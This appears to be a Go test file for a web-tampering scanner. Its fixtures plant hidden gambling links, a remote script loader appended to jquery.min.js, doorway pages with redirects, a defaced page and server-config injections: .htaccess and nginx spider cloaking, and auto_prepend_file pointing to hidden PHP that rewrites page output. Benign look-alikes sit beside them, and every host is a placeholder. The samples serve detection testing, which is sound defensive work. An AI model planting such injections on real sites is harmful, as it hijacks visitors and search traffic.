package check

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/yingji/yingji/internal/finding"
	"github.com/yingji/yingji/internal/source"
)

const darkBlock = `<div style="position:absolute;left:-9999px;top:-9999px">
<a href="http://www.amjs.invalid/">澳门博彩</a>
<a href="http://bjl.invalid/">百家乐</a>
<a href="http://zr.invalid/">真人娱乐</a>
</div>
`

// TestDarkLink plants dark links in web roots and benign look-alikes.
func TestDarkLink(t *testing.T) {
	const dl = "web.dark_link"
	runScenarios(t, []scenario{
		{name: "hidden gambling block in the default root", pattern: dl, plant: func(r *testRoot) {
			r.write("var/www/html/index.html", "<html><body><h1>Welcome</h1>\n"+darkBlock+"</body></html>\n")
		}, want: []want{{dl, "/var/www/html/index.html"}}},
		{name: "hidden iframe in a PHP template of an nginx root", pattern: dl, plant: func(r *testRoot) {
			r.write("etc/nginx/sites-enabled/shop", "server {\n  listen 80;\n  server_name shop.example.test;\n  root /data/shop/public;\n}\n")
			r.write("data/shop/public/header.php", "<?php echo $title; ?>\n<iframe src=\"http://trojan.invalid/ad.htm\" width=\"0\" height=\"0\"></iframe>\n")
		}, want: []want{{dl, "/data/shop/public/header.php"}}},
		{name: "script written with unescape", pattern: dl, plant: func(r *testRoot) {
			r.write("var/www/html/js/common.js", "document.write(unescape('%3Cdiv%20style%3D%22display%3Anone%22%3E%3Ca%20href%3D%22http%3A//bc.invalid/%22%3E%u6FB3%u95E8%u535A%u5F69%3C/a%3E%3C/div%3E'));\n")
		}, want: []want{{dl, "/var/www/html/js/common.js"}}},
		{name: "benign: menus, skip links, logo, news against gambling", pattern: dl, plant: func(r *testRoot) {
			r.write("etc/nginx/sites-enabled/univ", "server {\n  server_name www.example-univ.test;\n  root /srv/univ;\n}\n")
			r.write("srv/univ/index.html", `<html><head><style>.sr-only{position:absolute;width:1px;height:1px;clip:rect(0,0,0,0);overflow:hidden}
a.logo{display:block;background:url(logo.png);text-indent:-9999px}</style></head><body>
<a class="sr-only" href="#main">跳到主要内容</a><a class="logo" href="/">某某大学</a>
<nav><ul class="sub" style="display:none"><li><a href="/a">学院</a><li><a href="https://www.example-univ.test/b">招生</a></ul></nav>
<main id="main"><h1>我校开展"打击网络赌博、远离黄赌毒"主题教育</h1><p>严禁参与网络博彩、百家乐。</p></main></body></html>`)
		}},
	})
}

// TestDarkLinkFinding checks the finding of the demo's hidden gambling
// block: high, with the technique, hosts and words in the evidence.
func TestDarkLinkFinding(t *testing.T) {
	r := newRoot(t)
	r.write("var/www/html/index.html", "<html><body><h1>Welcome</h1>\n"+darkBlock+"</body></html>\n")
	for _, f := range r.scan("web.dark_link") {
		if f.Rule != "web.dark_link" {
			continue
		}
		if f.Severity != finding.High || f.Confidence != "high" || f.Category != "NATAMPER" {
			t.Errorf("finding %s %s %s", f.Severity, f.Confidence, f.Category)
		}
		ev := f.Evidence
		if len(ev) < 2 || ev[0].Path != "/var/www/html/index.html" || ev[0].SHA256 == "" {
			t.Fatalf("evidence %+v", ev)
		}
		e := ev[1]
		if e.Line != 2 || e.Fields["kind"] != "hidden_link" || e.Fields["technique"] != "offscreen" ||
			!strings.Contains(e.Fields["hosts"], "bjl.invalid") || !strings.Contains(e.Fields["words"], "百家乐") ||
			!strings.Contains(e.Excerpt, "left:-9999px") {
			t.Errorf("hit evidence %+v", e)
		}
		if !strings.Contains(f.DescriptionZh, "隐藏链接") || !strings.Contains(f.Description, "offscreen") {
			t.Errorf("description %q / %q", f.Description, f.DescriptionZh)
		}
		return
	}
	t.Fatal("no web.dark_link finding")
}

// TestDarkLinkSite: linked style sheets, trojanised libraries and the
// site-level findings (doorway pages, defacement signatures).
func TestDarkLinkSite(t *testing.T) {
	const dl = "web.dark_link"
	doorways := func(r *testRoot, n int) {
		r.write("var/www/html/index.html", "<html><head><title>某某大学</title></head><body><a href=\"/about.html\">概况</a></body></html>\n")
		r.write("var/www/html/about.html", "<html><head><title>学校概况</title></head><body><p>学校概况</p><a href=\"/\">首页</a></body></html>\n")
		for i := 0; i < n; i++ {
			r.write(fmt.Sprintf("var/www/html/news/2024/d%07d.html", i), "<html><head><title>澳门博彩_百家乐_真人娱乐</title></head><body><h1>澳门博彩百家乐</h1>"+
				"<p>澳门博彩 百家乐 真人娱乐 在线赌场 网上赌博 官方 网址 老虎机 六合彩</p>"+
				"<script>window.location.href=\"https://bc.invalid/\"</script></body></html>\n")
		}
	}
	runScenarios(t, []scenario{
		{name: "hiding rule in a linked style sheet", pattern: dl, plant: func(r *testRoot) {
			r.write("var/www/html/css/style.css", strings.Repeat(".nav a{color:#333}\n", 40)+".x9f{position:absolute;top:-999px}\n")
			r.write("var/www/html/index.html", "<html><head><link rel=\"stylesheet\" href=\"css/style.css\"></head><body>\n"+
				"<div class=\"x9f\"><a href=\"http://bc.invalid/\">澳门博彩</a><a href=\"http://bjl.invalid/\">百家乐</a></div></body></html>\n")
		}, want: []want{{dl, "/var/www/html/index.html"}}},
		{name: "code appended to jquery.min.js", pattern: dl, plant: func(r *testRoot) {
			r.write("var/www/html/js/jquery.min.js", "/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n"+
				"!function(e,t){\"use strict\";t(e)}(\"undefined\"!=typeof window?window:this,function(ie,e){return ie});\n"+
				";document.write(\"<script src=http://cdn-jquery.invalid/j.js><\\/script>\")\n")
		}, want: []want{{dl, "/var/www/html/js/jquery.min.js"}}},
		{name: "doorway pages", pattern: dl, plant: func(r *testRoot) { doorways(r, 12) },
			want: []want{{dl, "/var/www/html/news/2024/d0000000.html"}}},
		{name: "defaced home page", pattern: dl, plant: func(r *testRoot) {
			r.write("var/www/html/index.html", "<html><head><title>Hacked by XXX</title></head><body bgcolor=black><h1>Hacked by XXX</h1><marquee>Greetz</marquee></body></html>\n")
		}, want: []want{{dl, "/var/www/html/index.html"}}},
		{name: "benign: pristine library, orphan archive, article about an attack", pattern: dl, plant: func(r *testRoot) {
			r.write("var/www/html/js/jquery.min.js", "/*! jQuery v3.7.1 | (c) OpenJS Foundation */\n!function(e,t){t(e)}(window,function(ie){return ie});\n//# sourceMappingURL=jquery.min.map\n")
			r.write("var/www/html/index.html", "<html><head><title>某某大学</title><link rel=stylesheet href=/css/site.css></head><body><a href=\"/news/a.html\">新闻</a></body></html>\n")
			r.write("var/www/html/css/site.css", ".hero a{color:#fff}\n")
			r.write("var/www/html/news/a.html", "<html><head><title>Campus site hacked by students? No</title></head><body><h1>Campus site hacked by students? No</h1><p>"+
				strings.Repeat("The information centre ran a drill. ", 60)+"</p><a href=/>1</a><a href=/a>2</a><a href=/b>3</a><a href=/c>4</a><a href=/d>5</a><a href=/e>6</a></body></html>\n")
			for i := 0; i < 20; i++ {
				r.write(fmt.Sprintf("var/www/html/archive/p%02d.html", i), "<html><head><title>旧版新闻</title></head><body><p>旧版网站存档。</p></body></html>\n")
			}
		}},
	})
}

// TestDarkLinkDoorwayFinding: one finding for all the doorway pages, not
// one a page.
func TestDarkLinkDoorwayFinding(t *testing.T) {
	r := newRoot(t)
	r.write("var/www/html/index.html", "<html><head><title>某某大学</title></head><body><p>欢迎</p></body></html>\n")
	for i := 0; i < 15; i++ {
		r.write(fmt.Sprintf("var/www/html/news/2024/x%02d.html", i), "<html><head><title>澳门博彩_百家乐</title></head><body><h1>澳门博彩</h1><p>澳门博彩 百家乐 真人娱乐 在线赌场</p>"+
			"<script>location.replace('https://bc.invalid/')</script></body></html>\n")
	}
	fs := r.scan("web.dark_link")
	n := 0
	for _, f := range fs {
		if f.Rule != "web.dark_link" {
			continue
		}
		n++
		if f.Evidence[0].Fields["kind"] != "doorway" || f.Severity != finding.High || f.Evidence[0].Fields["pages"] != "15" ||
			!strings.Contains(f.Evidence[0].Fields["redirect_hosts"], "bc.invalid") || f.Attack[0] != "T1608.006" {
			t.Errorf("finding %s %+v %v", f.Severity, f.Evidence[0].Fields, f.Attack)
		}
	}
	if n != 1 {
		t.Errorf("%d findings, want one for the doorway pages", n)
	}
}

// TestConfigInjection plants server configuration injections and
// look-alikes.
func TestConfigInjection(t *testing.T) {
	const ci = "web.config_injection"
	runScenarios(t, []scenario{
		{name: "htaccess: mobile visitors from search engines sent away", pattern: ci, plant: func(r *testRoot) {
			r.write("var/www/html/index.html", "<html><body>ok</body></html>\n")
			r.write("var/www/html/.htaccess", "RewriteEngine On\nRewriteCond %{HTTP_REFERER} (baidu|sogou|so|sm)\\.(com|cn) [NC]\n"+
				"RewriteCond %{HTTP_USER_AGENT} (android|iphone|mobile) [NC]\nRewriteRule ^ https://bc.invalid/ [R=302,L]\nErrorDocument 404 http://bc.invalid/\n")
		}, want: []want{{ci, "/var/www/html/.htaccess"}}},
		{name: "nginx: spiders rewritten to /tmp, sub_filter links", pattern: ci, plant: func(r *testRoot) {
			r.write("etc/nginx/sites-enabled/univ", "server {\n  listen 80;\n  server_name www.example-univ.test;\n  root /srv/univ;\n"+
				"  if ($http_user_agent ~* \"baiduspider|sogou\") {\n    rewrite ^(.*)$ /tmp/seo.php?u=$1 last;\n  }\n"+
				"  location / {\n    sub_filter '</body>' '<div style=display:none><a href=\"http://bc.invalid/\">澳门博彩</a></div></body>';\n  }\n}\n")
			r.write("srv/univ/index.html", "<html><body>ok</body></html>\n")
		}, want: []want{{ci, "/etc/nginx/sites-enabled/univ"}}},
		{name: ".user.ini prepends a hidden file that rewrites the output", pattern: ci, plant: func(r *testRoot) {
			r.write("var/www/html/index.php", "<?php echo 'ok';\n")
			r.write("var/www/html/.user.ini", "auto_prepend_file=/var/tmp/.sess_7a\n")
			r.write("var/tmp/.sess_7a", "<?php\n$l='<div style=\"display:none\"><a href=\"http://bc.invalid/\">澳门博彩</a></div>';\n"+
				"ob_start(function($b) use ($l) { return str_replace('</body>', $l.'</body>', $b); });\n")
		}, want: []want{{ci, "/var/www/html/.user.ini"}, {ci, "/var/tmp/.sess_7a"}}},
		{name: "php.ini and an FPM pool prepend files in hidden places", pattern: ci, plant: func(r *testRoot) {
			r.write("etc/php/8.2/fpm/php.ini", "[PHP]\nmemory_limit = 128M\nauto_prepend_file = /dev/shm/.x.php\n")
			r.write("etc/php/8.2/fpm/pool.d/www.conf", "[www]\nuser = www-data\nphp_admin_value[auto_append_file] = /var/tmp/.cache/a.php\n")
		}, want: []want{{ci, "/etc/php/8.2/fpm/php.ini"}, {ci, "/etc/php/8.2/fpm/pool.d/www.conf"}}},
		{name: "PHP page serves spiders remote content", pattern: ci, plant: func(r *testRoot) {
			r.write("var/www/html/index.php", "<?php\nif (preg_match('/baiduspider|sogou|googlebot/i', $_SERVER['HTTP_USER_AGENT'])) {\n"+
				"    echo file_get_contents('http://seo-panel.invalid/?h=' . $_SERVER['HTTP_HOST']);\n    exit;\n}\n?>\n<html><body>ok</body></html>\n")
		}, want: []want{{ci, "/var/www/html/index.php"}}},
		{name: "IIS web.config rewrites spiders to another host", pattern: ci, plant: func(r *testRoot) {
			r.write("var/www/html/web.config", "<configuration><system.webServer><rewrite><rules><rule name=\"s\"><match url=\"(.*)\"/>"+
				"<conditions><add input=\"{HTTP_USER_AGENT}\" pattern=\"Baiduspider|Sogou\"/></conditions><action type=\"Rewrite\" url=\"http://seo-panel.invalid/{R:1}\"/></rule></rules></rewrite></system.webServer></configuration>\n")
		}, want: []want{{ci, "/var/www/html/web.config"}}},
		{name: "benign: WordPress rewrites, https and mobile redirects, bot blocking, Wordfence, header plugin", pattern: ci, plant: func(r *testRoot) {
			r.write("etc/nginx/sites-enabled/univ", "server {\n  listen 80;\n  server_name www.example-univ.test;\n  return 301 https://$host$request_uri;\n}\n"+
				"server {\n  listen 443 ssl;\n  server_name www.example-univ.test;\n  root /srv/univ;\n  error_page 404 /404.html;\n"+
				"  if ($http_user_agent ~* \"(AhrefsBot|SemrushBot|spider)\") { return 403; }\n"+
				"  if ($http_user_agent ~* \"(android|iphone)\") { return 302 https://m.example-univ.test$request_uri; }\n"+
				"  location / { try_files $uri $uri/ /index.php?$args; }\n}\n")
			r.write("srv/univ/.htaccess", "# BEGIN WordPress\nRewriteEngine On\nRewriteCond %{HTTPS} off\nRewriteRule ^(.*)$ https://%{HTTP_HOST}%{REQUEST_URI} [L,R=301]\n"+
				"RewriteCond %{HTTP_REFERER} !^$\nRewriteCond %{HTTP_REFERER} !^https?://(www\\.)?example-univ\\.test [NC]\nRewriteRule \\.(jpg|png)$ - [F]\n"+
				"RewriteCond %{REQUEST_FILENAME} !-f\nRewriteCond %{REQUEST_FILENAME} !-d\nRewriteRule . /index.php [L]\n# END WordPress\n")
			r.write("srv/univ/.user.ini", "auto_prepend_file = '/srv/univ/wordfence-waf.php'\n")
			r.write("srv/univ/wordfence-waf.php", "<?php\nif (file_exists(__DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php')) { include_once __DIR__.'/wp-content/plugins/wordfence/waf/bootstrap.php'; }\n")
			r.write("srv/univ/wp-content/plugins/headers/headers.php", "<?php\nob_start(function($b) { return str_replace('</head>', '<meta name=\"generator\" content=\"x\"></head>', $b); });\n"+
				"$bot = preg_match('/bot|spider/i', $_SERVER['HTTP_USER_AGENT']);\n")
			r.write("srv/univ/baidu_verify_codeva-AbCd.html", "e3b0c44298fc1c149afbf4c8996fb924\n")
			r.write("srv/univ/robots.txt", "User-agent: Baiduspider\nDisallow: /admin/\n")
		}},
	})
}

// TestConfigInjectionFinding checks the metadata and evidence of a finding.
func TestConfigInjectionFinding(t *testing.T) {
	r := newRoot(t)
	r.write("var/www/html/.user.ini", "; x\nauto_prepend_file=/var/tmp/.sess_7a\n")
	r.write("var/tmp/.sess_7a", "<?php ob_start(function($b){return str_replace('</body>','<a href=\"http://bc.invalid/\">x</a></body>',$b);});\n")
	got := 0
	for _, f := range r.scan("web.config_injection") {
		if f.Rule != "web.config_injection" {
			continue
		}
		got++
		if f.Severity != finding.High || f.Category != "NAHIJACK" {
			t.Errorf("%s: %s %s", f.Evidence[0].Path, f.Severity, f.Category)
		}
		switch f.Evidence[0].Path {
		case "/var/www/html/.user.ini":
			e := f.Evidence[1]
			if e.Line != 2 || e.Fields["technique"] != "auto-prepend" || e.Fields["target"] != "/var/tmp/.sess_7a" || f.Evidence[0].Fields["prepended_files"] != "/var/tmp/.sess_7a" {
				t.Errorf("evidence %+v", f.Evidence)
			}
		case "/var/tmp/.sess_7a":
			if f.Evidence[1].Fields["technique"] != "output-rewrite" || !strings.Contains(f.Evidence[0].Fields["note"], "/var/www/html/.user.ini") {
				t.Errorf("evidence %+v", f.Evidence)
			}
		default:
			t.Errorf("unexpected %s", f.Evidence[0].Path)
		}
	}
	if got != 2 {
		t.Errorf("%d findings, want 2", got)
	}
}

// TestDarkLinkBoundNoted: a web root larger than the bound is not
// silently cut: the check's status says what it left out.
func TestDarkLinkBoundNoted(t *testing.T) {
	defer func(n int) { darkLinkMaxFiles = n }(darkLinkMaxFiles)
	darkLinkMaxFiles = 3
	r := newRoot(t)
	for i := range 6 {
		r.write(fmt.Sprintf("var/www/html/p%d.html", i), "<html><body><p>page</p></body></html>\n")
	}
	src, err := source.OpenDir(r.dir, false)
	if err != nil {
		t.Fatal(err)
	}
	defer src.Close()
	res, err := Run(context.Background(), src, Options{Pattern: "web.dark_link", Now: r.now})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Statuses) != 1 || len(res.Statuses[0].Notes) != 1 || !strings.Contains(res.Statuses[0].Notes[0], "stopped after 3 files") {
		t.Errorf("statuses %+v", res.Statuses)
	}
}
